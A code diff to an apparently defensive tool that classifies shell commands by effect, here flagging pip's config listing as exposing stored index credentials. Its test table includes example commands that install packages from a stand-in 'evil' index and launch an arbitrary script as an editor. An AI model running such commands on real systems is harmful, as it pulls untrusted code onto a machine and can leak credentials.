@@ -569,7 +569,9 @@ def _pip(name: str) -> Spec:
         options={"--editor": "val:exec", "--global --user --site": "flag"},
         subcommands={
             "set unset edit": Spec("set", operands="text*", effects="config", globals_anywhere=True),
-            "get list debug": Spec("get", operands="text*", globals_anywhere=True),
+            # An index URL is where pip.conf keeps a private index's credentials (https://user:token@host/simple),
+            # as npm's config keeps its _authToken: printed like `npm config get`.
+            "get list debug": Spec("get", operands="text*", effects="secret@ask", globals_anywhere=True),
         },
         globals_anywhere=True,
     )
@@ -612,6 +614,7 @@ def _pip(name: str) -> Spec:
             f"{name} install --index-url http://evil/simple x": "network network:http://evil/simple",
             f"{name} install -t ~/.local/lib x": "network tree-write:~/.local/lib",
             f"{name} config set global.index-url http://x": "config",
+            f"{name} config list": "secret",
             f"{name} config --editor /tmp/x.sh edit": "config exec:/tmp/x.sh",
             f"{name} freeze": "",
             f"{name} download -d /tmp/w x": "network tree-write:/tmp/w",
